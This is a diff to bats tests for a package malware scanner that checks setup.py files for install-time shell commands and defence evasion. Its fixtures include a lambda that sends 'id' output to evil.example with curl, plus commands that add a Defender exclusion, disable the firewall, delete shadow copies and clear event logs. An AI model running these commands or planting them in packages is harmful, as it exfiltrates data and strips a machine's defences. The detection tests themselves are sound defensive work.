@@ -1,7 +1,8 @@
 #!/usr/bin/env bats
-# 49d-recall4.bats: installing code from past any index at install time (issue 11, recall):
-# `pip install https://…`, a VCS or another index, npm and easy_install alike — each with the
-# benign look-alikes (an index install, PyPI's own index, prose naming a URL) that must not fire.
+# 49d-recall4.bats: techniques of recent malware (issue 11, part 4): installing code from past
+# any index at install time (`pip install https://…`, a VCS, another index, npm, easy_install),
+# a lambda invoked where it is written, commands that switch off the machine's defences —
+# each with the benign look-alikes that must not fire.
 
 load helpers/common
 bats_require_minimum_version 1.5.0
@@ -78,4 +79,66 @@ def upgrade():
 PY
 	run hits p
 	assert_output 'pkg/__init__.py 3 InstallFromURL function 30'
+}
+
+# dets DIR DETECTION: "path line detection context score" of DETECTION's hits for a directory.
+dets() {
+	aura-fetch "$1" | aura-unpack | aura-parse | aura-rewrite | aura-analyze |
+		jq -r --arg d "$2" 'select(.type == "hit" and .detection == $d) |
+			"\(.path) \(.line) \(.detection) \(.context) \(.score)"' | sort -u
+}
+
+@test "a lambda invoked where it is written runs there: its body weighs at install time, risk high" {
+	cat > p/setup.py <<'PY'
+from setuptools import setup
+(lambda: __import__('os').system('id > /tmp/.x; curl -d @/tmp/.x http://evil.example/'))()
+setup(name="p", version="1.0")
+PY
+	run dets p ShellCommand
+	assert_output 'setup.py 2 ShellCommand install 100'
+	run risk p
+	assert_output high
+}
+
+@test "look-alike: a lambda only defined, or handed on uncalled, keeps the weight of a function" {
+	cat > p/setup.py <<'PY'
+import os
+from setuptools import setup
+clean = lambda: os.system('rm -rf build')
+handlers = {"clean": lambda: os.system('make clean')}
+setup(name="p", version="1.0")
+PY
+	run dets p ShellCommand
+	assert_output "$(printf '%s\n' 'setup.py 3 ShellCommand function 2' 'setup.py 4 ShellCommand function 1')"
+}
+
+@test "turning off Defender, the firewall, shadow copies or event logs is DefenseEvasion" {
+	cat > p/setup.py <<'PY'
+import os, subprocess
+from setuptools import setup
+subprocess.run(['powershell', '-Command', 'Add-MpPreference -ExclusionPath ' + os.environ['APPDATA']])
+os.system('netsh advfirewall set allprofiles state off')
+os.system('vssadmin delete shadows /all /quiet')
+os.system('wevtutil cl System')
+setup(name="p", version="1.0")
+PY
+	run dets p DefenseEvasion
+	assert_output "$(printf '%s\n' \
+		'setup.py 3 DefenseEvasion install 100' 'setup.py 4 DefenseEvasion install 100' \
+		'setup.py 5 DefenseEvasion install 100' 'setup.py 6 DefenseEvasion install 100')"
+}
+
+@test "look-alike: reading Defender's settings, showing the firewall, listing shadow copies are no DefenseEvasion" {
+	cat > p/setup.py <<'PY'
+import os, subprocess
+from setuptools import setup
+subprocess.run(['powershell', '-Command', 'Get-MpPreference'])
+os.system('netsh advfirewall show allprofiles')
+os.system('vssadmin list shadows')
+os.system('wevtutil qe System /c:5')
+setup(name="p", version="1.0")
+PY
+	run dets p DefenseEvasion
+	assert_success
+	assert_output ""
 }
